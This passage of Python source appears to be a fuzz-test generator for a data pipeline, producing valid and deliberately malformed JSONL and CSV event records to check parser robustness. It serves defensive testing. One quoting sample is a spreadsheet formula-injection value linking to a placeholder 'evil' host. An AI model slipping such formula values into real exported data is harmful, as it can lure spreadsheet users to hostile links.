        if isinstance(value, Raw):
            value = value.value
        if value is None:
            return ""
        if name in BOOLS:
            return rng.choice(("true", "1")) if value else rng.choice(("false", "0"))
        if name in LISTS:
            separators = rng.choice(((",", ":"), (", ", ": ")))
            return json.dumps(value, ensure_ascii=rng.random() < 0.5, separators=separators)
        if isinstance(value, float):
            return repr(value)
        return str(value)

    def csv_event(
        self, header: list[str], kind: str, *, strip_cr: bool, event_id: str | None = None
    ) -> tuple[dict[str, str], dict[str, Any]]:
        """The cells of a valid row of this kind (``x_extra`` too), and its store row."""
        rng = self.rng
        event, ts = self.event()
        if kind == "csv_unicode":
            self.texts(event, UNICODE)
        elif kind in ("csv_injection", "csv_quoting"):
            self.texts(event, INJECTION if kind == "csv_injection" else QUOTING)
        elif kind == "csv_offset":
            event["timestamp"] = self.stamp(ts, rng.choice(EXOTIC_OFFSETS))
        elif kind == "csv_int32_valid":
            event[rng.choice(INT32_COLUMNS)] = rng.choice((INT32_MAX + 1, 2**40, INT64_MAX))
        elif kind == "csv_boundaries":
            event[rng.choice(MEASURES)] = rng.choice((0.0, MAX_MEASURE, 5e-324, -0.0))
            event[rng.choice(("tokens_in", "tokens_out"))] = INT64_MAX
            event["satisfaction"] = rng.choice((1.0, 5.0))
        if event_id is not None:
            event["event_id"] = event_id
        event = {name: event.get(name) for name in header if name in FIELDS}
        if strip_cr:  # the csv module leaves a lone CR unquoted in LF files: no producer can write one
            event = _without_cr(event)
        cells = {name: self.cell(name, event.get(name)) for name in header}
        cells["x_extra"] = self.text(100, rng.choice((UNICODE, INJECTION, QUOTING)))
        if strip_cr:
            cells["x_extra"] = _without_cr(cells["x_extra"]) or "x"
        return cells, store_row(event, ts)

    def csv_defect(self, kind: str, header: list[str], cells: dict[str, str]) -> str | None:
        """Break one cell of a bad CSV kind; return the field to name."""
        rng = self.rng
        floats = [name for name in FLOATS if name in header]
        texts = [name for name in TEXTS if name in header]
        name: str | None
        if kind == "csv_non_finite":
            name = rng.choice(floats)
            cells[name] = rng.choice(
                ("inf", "-inf", "nan", "NaN", "Infinity", "-Infinity", "INF", "1e999", "-1e999")
            )
        elif kind == "csv_out_of_range":
            name = rng.choice(floats)
            if name == "satisfaction":
                cells[name] = rng.choice(("0", "0.5", "5.5", "6"))
            elif name in MEASURES:
                cells[name] = rng.choice(
                    ("1e300", "-1", "-0.5", "1e13", repr(math.nextafter(MAX_MEASURE, math.inf)))
                )
            else:
                cells[name] = rng.choice(("1.5", "-0.1", "6", "1e300"))
        elif kind == "csv_int64_overflow":
            name = rng.choice(COUNTS)
            cells[name] = rng.choice(("9223372036854775808", "18446744073709551616", "1" + "0" * 40))
        elif kind == "csv_wrong_type":
            name = rng.choice(tuple(WRONG_CELLS))
            cells[name] = rng.choice(WRONG_CELLS[name])
        elif kind == "csv_missing_required":
            name = rng.choice(REQUIRED)
            cells[name] = ""
        elif kind == "csv_nul":
            name = rng.choice(texts)
            cells[name] = cells[name][:20] + "\x00" + cells[name][20:40]
        elif kind == "csv_invalid_utf8":
            name = "event"
            cells[rng.choice(texts)] += rng.choice(INVALID_UTF8).decode("utf-8", "surrogateescape")
        elif kind == "csv_bad_list":
            name, text = rng.choice(BAD_LISTS)
            cells[name.split(".")[0]] = text
        elif kind == "csv_offset_overflow":
            name = "timestamp"
            cells[name] = rng.choice(OVERFLOWING)
        elif kind == "csv_big_cell":  # over the csv module's default 128 KiB field limit
            name = "comment"
            cells[name] = "y" * rng.choice((130 * 1024, 200 * 1024))
        elif kind == "csv_oversize":
            name = None
            cells["comment"] = "z" * 2_000_000
        else:
            raise ValueError(kind)
        return name

    def csv_line(self, cells: list[str], quoting: int) -> bytes:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n", quoting=quoting).writerow(cells)
        return buffer.getvalue().removesuffix("\r\n").encode("utf-8", "surrogateescape")

    def csv_record(
        self, kind: str, header: list[str], quoting: int, strip_cr: bool, event_id: str | None = None
    ) -> Record:
        rng = self.rng
        valid = kind if kind in CSV_VALID else "csv_valid"
        cells, row = self.csv_event(header, valid, strip_cr=strip_cr, event_id=event_id)
        if kind == "csv_big_extra":  # an unknown column is ignored, however big, within the record limit
            cells["x_extra"] = "y" * rng.choice((130 * 1024, 200 * 1024))
        if kind in CSV_VALID or kind == "csv_big_extra":
            return Record(kind, self.csv_line(list(cells.values()), quoting), ("valid", row))
        if kind == "csv_more_cells":
            line = self.csv_line([*cells.values(), *["extra"] * rng.randint(1, 3)], quoting)
            return self.bad(kind, line, "event")
        if kind == "csv_fewer_cells":  # cut before the last required column
            cut = rng.randint(1, max(header.index(name) for name in REQUIRED))
            return self.bad(kind, self.csv_line(list(cells.values())[:cut], quoting), None)
        field = self.csv_defect(kind, header, cells)
        return self.bad(kind, self.csv_line(list(cells.values()), quoting), field)

    def csv_file(
        self,
        name: str,
        kinds: list[str],
        *,
        lf: bool = False,
        quoting: int = csv.QUOTE_MINIMAL,
        bom: bool = False,
        last: str | None = None,
    ) -> LandingFile:
        header = self.csv_header(last)
        strip_cr = lf and quoting == csv.QUOTE_MINIMAL
        records: list[Record] = []
        for kind in kinds:
            originals = [r for r in records if r.kind in CSV_VALID]
            if kind == "csv_duplicate_id" and originals:
                # another row with an earlier row's event_id and other values: a duplicate, not stored
                event_id = self.rng.choice(originals).row["event_id"]
                record = self.csv_record("csv_valid", header, quoting, strip_cr, event_id)
                records.append(Record(kind, record.line, record.expected))
            else:
                kind = "csv_valid" if kind == "csv_duplicate_id" else kind
                records.append(self.csv_record(kind, header, quoting, strip_cr))
        header_line = self.csv_line(header, quoting)
        return LandingFile(name, records, header_line, bom, b"\n" if lf else b"\r\n", columns=header)

    def csv_truncated_in_quotes(self, landing: LandingFile) -> None:
        """End a file (QUOTE_MINIMAL, ``comment`` last) inside the quoted comment of its last row."""
        assert landing.columns is not None and landing.columns[-1] == "comment"
        cells, _ = self.csv_event(landing.columns, "csv_valid", strip_cr=True)
        cells["comment"] = f"half-written, {self.marker()}: " + "more text, " * 5
        values = list(cells.values())
        line = self.csv_line(values, csv.QUOTE_MINIMAL)
        start = len(self.csv_line(values[:-1], csv.QUOTE_MINIMAL)) + 2  # after ',"'
        cut = self.rng.randint(start + 1, len(line) - 2)
        landing.records.append(self.bad("csv_truncated_in_quotes", line[:cut], None))
        landing.final_terminator = False

    # -- hours ---------------------------------------------------------------

    def jsonl(self, kind: str) -> Record:
        if kind in self.DEFECTS:
            return self.defect(kind)
        return getattr(self, f"jsonl_{kind}")()

    def jsonl_file(self, name: str, kinds: list[str], earlier: list[Record]) -> LandingFile:
        rng = self.rng
        records: list[Record] = []
        for kind in kinds:
            originals = [r for r in records if r.valid and not r.kind.startswith("duplicate")]
            if kind == "duplicate_id" and originals:
                first = rng.choice(originals)
                event, ts = self.event()
                event["event_id"] = first.row["event_id"]
                record = self.valid("duplicate_id", event, ts)
            elif kind == "duplicate_across_files" and earlier:
                first = rng.choice(earlier)
                record = Record("duplicate_across_files", first.line, first.expected)
            else:
                record = self.jsonl("valid" if kind.startswith("duplicate") else kind)
            if rng.random() < 0.01:
                record = dataclasses.replace(record, blank_after=rng.choice((b"\n", b"   \n", b"\t\r\n")))
            records.append(record)
        earlier.extend(
            r for r in records if r.valid and not r.kind.startswith("duplicate") and r.terminator is None
        )
        return LandingFile(name, records)

    def fuzz_hour(self, scale: float = 1.0) -> list[LandingFile]:
        """10,000+ records (at scale 1) in four JSONL and three CSV files for one hour."""
        rng = self.rng
        kinds = [kind for kind, n in JSONL_MIX.items() for _ in range(max(1, round(n * scale)))]
        kinds += [kind for kind, n in JSONL_FIXED.items() for _ in range(n)]
        rng.shuffle(kinds)
        parts = [kinds[i::4] for i in range(4)]
        earlier: list[Record] = []
        files = [self.jsonl_file(f"part-{i:02d}.jsonl", part, earlier) for i, part in enumerate(parts)]
        files[1].records.insert(0, dataclasses.replace(self.jsonl_valid(), kind="bom"))
        files[1].bom = True
        files[2].records.append(self.jsonl_valid())
        files[2].final_terminator = False  # the last line has no newline: still a record
        files[3].records.append(self.jsonl_truncated())
        files[3].final_terminator = False  # a half-written last line
        csv_kinds = [kind for kind, n in CSV_MIX.items() for _ in range(max(1, round(n * scale)))]
        rng.shuffle(csv_kinds)
        half = len(csv_kinds) // 2
        files.append(self.csv_file("export-a.csv", csv_kinds[:half]))
        files.append(
            self.csv_file("export-b.csv", csv_kinds[half:], lf=True, quoting=csv.QUOTE_ALL, bom=True)
        )
        tail = (
            ["csv_valid"] * max(1, round(60 * scale))
            + ["csv_big_cell", "csv_big_extra"] * 2
            + ["csv_oversize"]
        )
        rng.shuffle(tail)
        last = self.csv_file("export-c.csv", tail, lf=True, last="comment")
        self.csv_truncated_in_quotes(last)
        files.append(last)
        return files

    def poison_hour(self, kind: str, valid: int = 200) -> list[LandingFile]:
        """``valid`` plain events and one record of ``kind`` among them (first or last where it must be)."""
        return self._poisoned([kind], valid)

    def poison_hour_all(self, valid: int = 200) -> list[LandingFile]:
        """One record of every poison kind among ``valid`` plain events, in one JSONL and one CSV file."""
        return self._poisoned(list(POISON), valid)

    def _poisoned(self, kinds: list[str], valid: int) -> list[LandingFile]:
        jsonl = [k for k in kinds if not k.startswith("csv_")]
        csv_kinds = [k for k in kinds if k.startswith("csv_")]
        n_csv = 0 if not csv_kinds else valid if not jsonl else valid // 4
        files = []
        if jsonl:
            records = [self.jsonl_valid() for _ in range(valid - n_csv)]
            for kind in jsonl:
                if kind == "bom":
                    records.insert(0, self.poison(kind, records))
                elif kind != "truncated_tail":
                    records.insert(self.rng.randint(1, len(records) - 1), self.poison(kind, records))
            landing = LandingFile("part-0.jsonl", records, bom="bom" in jsonl)
            if "truncated_tail" in jsonl:
                records.append(self.jsonl_truncated())
                landing.final_terminator = False
            files.append(landing)
        if csv_kinds:
            plain = [k for k in csv_kinds if k != "csv_truncated_in_quotes"]
            rows = ["csv_valid"] * n_csv
            for kind in plain:
                rows.insert(self.rng.randint(1, len(rows) - 1), kind)
            landing = self.csv_file("export.csv", rows, lf=True, last="comment")
            if "csv_truncated_in_quotes" in csv_kinds:
                self.csv_truncated_in_quotes(landing)
            files.append(landing)
        return files

    def poison(self, kind: str, records: list[Record]) -> Record:
        event, ts = self.event()
        if kind.startswith("int64_overflow_"):
            self.int64_overflow(event, kind.removeprefix("int64_overflow_"))
            return self.bad(kind, self.dumps(event), kind.removeprefix("int64_overflow_"))
        if kind.startswith("int32_overflow_"):
            event[kind.removeprefix("int32_overflow_")] = self.rng.choice((INT32_MAX + 1, INT64_MAX))
            return self.valid(kind, event, ts)
        if kind == "bom":
            return dataclasses.replace(self.jsonl_valid(), kind="bom")
        if kind == "duplicate_id":
            event["event_id"] = records[-1].row["event_id"]
            return self.valid(kind, event, ts)
        if kind == "oversize_2mb":
            event["comment"] = "x" * 2_000_000
            return self.bad(kind, self.dumps(event), "event")
        literal = {"nan_literal": b"NaN", "infinity_literal": b"Infinity", "float_1e999": b"1e999"}
        if kind in literal:
            event["duration_s"] = Raw(literal[kind])
            return self.bad(kind, self.dumps(event), "duration_s" if kind == "float_1e999" else None)
        if kind == "huge_float":
            event["duration_s"] = 1e308
            return self.bad(kind, self.dumps(event), "duration_s")
        if kind == "nul_escaped":
            event["comment"] = "nul \x00 here"
            return self.bad(kind, self.dumps(event), "comment")
        if kind == "invalid_utf8":
            event["comment"] = Raw(b'"caf\xe9"')
            return self.bad(kind, self.dumps(event), "event")
        if kind == "invalid_utf8_unknown_field":
            event["x_note"] = Raw(b'"\xff"')
            return self.bad(kind, self.dumps(event), "event")
        method = {"crlf": "valid_crlf"}.get(kind, kind)
        return dataclasses.replace(getattr(self, f"jsonl_{method}")(), kind=kind)


OVERFLOWING = (
    "9999-12-31T23:59:59-01:00",  # past year 9999 in UTC
    "9999-12-31T23:00:00-01:00",
    "9999-12-31T23:59:59.999999-00:01",
    "9999-12-31T12:00:00-23:59",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+01:00",  # before year 1 in UTC
    "0001-01-01T00:59:59+01:00",
    "0001-01-01T00:00:00.000001+00:01",
    "0001-01-01T23:58:59+23:59",
)
QUOTING = (
    "comma, separated, text",
    'a "quoted" word',
    '""',
    "multi\nline\ncomment",
    "windows\r\nline",
    "carriage\rreturn",
    "  leading and trailing  ",
    "'single'",
    "tab\there",
    '",",",\n"',
    '=HYPERLINK("http://evil","click")',
)
BAD_LISTS = (
    ("style_issues", "not json"),
    ("style_issues", "["),
    ("style_issues", '"xss"'),
    ("style_issues", '{"a": 1}'),
    ("style_issues.0", "[1]"),
    ("errors.0.type", '[{"message": "x"}]'),
    ("errors.0", "[1]"),
    ("errors.0.message", '[{"type": "t", "message": "a\\u0000b"}]'),
)
CSV_VALID = ("csv_valid", "csv_unicode", "csv_quoting", "csv_injection", "csv_offset", "csv_int32_valid")
CSV_VALID += ("csv_boundaries",)
WRONG_CELLS = {
    "success": ("maybe", "yes", "2", "t"),
    "duration_s": ("abc", "1,5", "12s", "0x10"),
    "quality_score": ("high", "0,8", "80%"),
    "size": ("1.5", "abc", "1,000"),
    "timestamp": ("yesterday", "2026-11-20T05:10:00", "2026-02-30T05:00:00Z"),
}
JSONL_MIX = {  # records per fuzz hour at scale 1
    "valid": 1900,
    "valid_minimal": 150,
    "valid_nulls": 150,
    "valid_offset": 250,
    "valid_unicode": 300,
    "valid_injection": 250,
    "valid_int32_overflow": 200,
    "valid_boundaries": 150,
    "valid_extra_fields": 200,
    "valid_extra_extreme": 40,
    "valid_whitespace": 100,
    "valid_crlf": 200,
    "valid_escapes": 100,
    "duplicate_id": 200,
    "duplicate_across_files": 60,
    "offset_overflow": 80,
    "offset_underflow": 80,
    "deep_nesting": 30,
    "deep_nesting_known": 10,
    "int64_overflow": 200,
    "wrong_type": 500,
    "out_of_range": 400,
    "bad_length": 200,
    "missing_required": 250,
    "null_required": 150,
    "bad_timestamp": 200,
    "nul_escaped": 250,
    "nul_raw": 100,
    "non_finite": 150,
    "float_overflow": 150,
    "number_syntax": 60,
    "invalid_utf8": 200,
    "lone_surrogate": 60,
    "truncated": 250,
    "not_object": 60,
    "malformed": 150,
    "mutation": 1000,
}
JSONL_FIXED = {"valid_large": 3, "oversize": 4}  # the heavy ones: a few whatever the scale
CSV_MIX = {
    "csv_valid": 300,
    "csv_unicode": 80,
    "csv_quoting": 100,
    "csv_injection": 60,
    "csv_offset": 60,
    "csv_int32_valid": 50,
    "csv_boundaries": 40,
    "csv_duplicate_id": 40,
    "csv_non_finite": 80,
    "csv_out_of_range": 50,
    "csv_int64_overflow": 40,
    "csv_wrong_type": 60,
    "csv_missing_required": 50,
    "csv_nul": 50,
    "csv_invalid_utf8": 40,
    "csv_bad_list": 50,
    "csv_more_cells": 20,
    "csv_fewer_cells": 20,
    "csv_offset_overflow": 20,
}
# The crash classes of issue 10 (and a few neighbours): each alone in a poison hour.
POISON = (
    "offset_overflow",
    "offset_underflow",
    "deep_nesting",
    *(f"int64_overflow_{name}" for name in COUNTS),
    *(f"int32_overflow_{name}" for name in INT32_COLUMNS),
    "nul_escaped",
    "nul_raw",
    "nan_literal",
    "infinity_literal",
    "float_1e999",
    "huge_float",
    "oversize_2mb",
    "invalid_utf8",
    "invalid_utf8_unknown_field",
    "lone_surrogate",
    "bom",
    "crlf",
    "truncated_tail",
    "not_object",
    "malformed",
    "duplicate_id",
    "csv_big_cell",
    "csv_big_extra",
    "csv_non_finite",
    "csv_nul",
    "csv_oversize",
    "csv_int64_overflow",
    "csv_int32_valid",
    "csv_truncated_in_quotes",
)
